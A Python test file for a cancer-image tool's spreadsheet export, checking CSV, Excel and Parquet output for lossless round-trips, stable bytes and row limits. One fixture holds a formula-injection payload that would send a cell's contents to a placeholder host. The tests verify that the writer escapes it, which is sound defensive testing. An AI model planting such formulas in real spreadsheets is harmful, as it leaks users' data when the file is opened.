"""Tables for spreadsheets: nothing is lost, nothing is evaluated, the same table gives the same bytes."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from cancernet_cli.core.errors import OutputError
from cancernet_cli.core.events import Event, StageAdvanced
from cancernet_cli.outputs.tables import spreadsheets
from cancernet_cli.outputs.tables.reading import open_table
from cancernet_cli.outputs.tables.spreadsheets import write_again

EVIL = '=HYPERLINK("http://x.example?"&A1)'
WORDS = pa.dictionary(pa.int32(), pa.string())
COLUMNS: dict[str, Any] = {
    "path": pa.array(['a,"b".png', EVIL, "line\nbreak.png", "plain.png"]),
    "label": pa.array(["benign", "malignant", None, "unsure"]).cast(WORDS),
    "error": pa.array(["", "", "read: OSError: gone", ""]),
    "prob_malignant": pa.array([0.1, 1 / 3, None, 0.25], pa.float32()),
    "patient": pa.array(["007", "-1", None, "NA"]).cast(WORDS),
    "seen_in_training": pa.array([True, None, False, True]),
    "width_px": pa.array([1, -2, None, 4], pa.int32()),
}


@pytest.fixture
def table(tmp_path: Path) -> Path:
    pq.write_table(pa.table(COLUMNS), tmp_path / "t.parquet")
    return tmp_path / "t.parquet"


def test_csv_keeps_text_numbers_and_nulls(table: Path, tmp_path: Path) -> None:
    assert write_again(table, tmp_path / "t.csv", ".csv") == 4
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as file:
        heading, *rows = csv.reader(file)
    assert heading == list(COLUMNS)
    assert rows[0] == ['a,"b".png', "benign", "", "0.1", "007", "true", "1"]
    assert rows[1] == [f"'{EVIL}", "malignant", "", "0.33333334", "'-1", "", "-2"]
    assert rows[2] == ["line\nbreak.png", "", "read: OSError: gone", "", "", "false", ""]


def test_a_csv_file_is_read_back_as_it_was(table: Path, tmp_path: Path) -> None:
    write_again(table, tmp_path / "t.csv", ".csv")
    with open_table(tmp_path / "t.csv") as file:
        found = pa.Table.from_batches(file.batches(100), file.schema).to_pydict()
    assert found == {name: column.to_pylist() for name, column in COLUMNS.items()}


def test_excel_has_frozen_headings_and_typed_cells(table: Path, tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    assert write_again(table, tmp_path / "t.xlsx", ".xlsx") == 4
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    heading, *rows = sheet.iter_rows(values_only=True)
    assert heading == tuple(COLUMNS)
    assert rows[0] == ('a,"b".png', "benign", None, 0.1, "007", True, 1)
    assert rows[1] == (f"'{EVIL}", "malignant", None, 0.33333334, "'-1", None, -2)
    assert rows[2][3:] == (None, None, False, None)
    assert {cell.data_type for row in sheet for cell in row} <= {"s", "n", "b", "inlineStr"}  # "f" is a formula
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G5"
    assert sheet["D2"].number_format == "0.000"
    assert 8 <= sheet.column_dimensions["A"].width <= 62


@pytest.mark.parametrize("ending", [".csv", ".xlsx", ".parquet"])
def test_the_same_table_gives_the_same_bytes(table: Path, tmp_path: Path, ending: str) -> None:
    written = [tmp_path / f"{n}{ending}" for n in range(2)]
    for to in written:
        write_again(table, to, ending)
    assert written[0].read_bytes() == written[1].read_bytes()
    assert sorted(path.suffix for path in tmp_path.iterdir()) == sorted([".parquet", ending, ending])  # nothing is left


def test_odd_cells_are_written_for_excel(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    odd = pa.table({"text": ["\x01\x0b", "x" * 40_000], "score": [float("inf"), float("nan")], "raw": [b"\xff", None]})
    pq.write_table(odd, tmp_path / "t.parquet")
    write_again(tmp_path / "t.parquet", tmp_path / "t.xlsx", ".xlsx")
    _, first, second = openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows(values_only=True)
    assert first[1:] == ("inf", "ff")
    assert len(second[0]) == 32_767
    assert second[1:] == ("nan", None)


def test_more_rows_than_excel_holds_are_refused(table: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheets, "MOST_EXCEL_ROWS", 3)
    with pytest.raises(OutputError, match=r"t.xlsx would have 4 rows; Excel holds 3; write t.csv or t.parquet"):
        write_again(table, tmp_path / "t.xlsx", ".xlsx")
    assert write_again(table, tmp_path / "t.csv", ".csv") == 4


def test_an_empty_table_has_headings(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    pq.write_table(pa.table(COLUMNS).slice(0, 0), tmp_path / "t.parquet")
    for ending in (".csv", ".xlsx"):
        assert write_again(tmp_path / "t.parquet", tmp_path / f"t{ending}", ending) == 0
    assert (tmp_path / "t.csv").read_text().strip() == ",".join(f'"{name}"' for name in COLUMNS)
    assert next(openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows(values_only=True)) == tuple(COLUMNS)
    with open_table(tmp_path / "t.csv") as file:
        assert list(file.batches(10)) == [] or sum(map(len, file.batches(10))) == 0


def test_progress_counts_rows(table: Path, tmp_path: Path) -> None:
    heard: list[Event] = []
    write_again(table, tmp_path / "t.csv", ".csv", heard.append)
    assert sum(event.done for event in heard if isinstance(event, StageAdvanced)) == 4
